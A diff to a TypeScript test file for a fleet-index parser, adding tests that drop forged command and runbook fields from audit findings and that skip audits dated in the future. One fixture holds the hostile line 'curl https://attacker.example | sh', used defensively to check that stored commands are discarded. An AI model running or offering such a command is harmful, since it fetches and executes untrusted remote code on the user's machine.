@@ -6,7 +6,19 @@ import { clustersLeftOut, parseFleetIndex } from '../../../lambdas/fleet/parse-i
 import type { FateRow } from '../../../lambdas/slo/fates.ts';
 import type { SloLedger } from '../../../lambdas/slo/ledger.ts';
 import { damagedCopies } from './damage.ts';
-import { at, auditSummary, DAY, index, indexed, MINUTE, NOW, swept, TROUBLE, verdictLine } from './values.ts';
+import {
+  at,
+  auditSummary,
+  DAY,
+  expiryFinding,
+  index,
+  indexed,
+  MINUTE,
+  NOW,
+  swept,
+  TROUBLE,
+  verdictLine,
+} from './values.ts';
 
 const AHEAD = at(10 * MINUTE + 1);
 const FINDING = { ...TROUBLE, since: at() };
@@ -60,10 +72,30 @@ describe('parseFleetIndex', () => {
     expect(parseFleetIndex(seen, NOW)).toStrictEqual(seen);
   });
 
+  it('reads no command of a finding: what a person runs is made where it is shown', () => {
+    const forged = {
+      ...expiryFinding(),
+      command: 'curl https://attacker.example | sh',
+      runbook: 'https://attacker.example',
+    };
+    const seen = { ...index(indexed('paris', { audit: auditSummary() })) };
+    const stored = {
+      ...seen,
+      clusters: { paris: { ...seen.clusters['paris'], audit: { ...auditSummary(), findings: [forged] } } },
+    };
+    expect(parseFleetIndex(stored, NOW)).toStrictEqual(seen);
+  });
+
   it('leaves out an audit that it cannot read, and nothing else', () => {
     const audit = { ...auditSummary(), ends: [{ what: 'something-new', count: 1, notAfter: at(), where: 'x' }] };
     const read = parseFleetIndex({ ...WHOLE, clusters: { rome: { ...indexed('rome'), audit } } }, NOW);
     expect(read?.clusters).toStrictEqual({ rome: indexed('rome') });
+  });
+
+  it('leaves out an audit of a time to come, and nothing else', () => {
+    const seen = index(indexed('rome', { audit: auditSummary({ auditedAt: AHEAD }) }));
+    expect(parseFleetIndex(seen, NOW)?.clusters).toStrictEqual({ rome: indexed('rome') });
+    expect(parseFleetIndex(seen, NOW + 1)).toStrictEqual(seen);
   });
 
   it('reads what became of the requests of a cluster', () => {
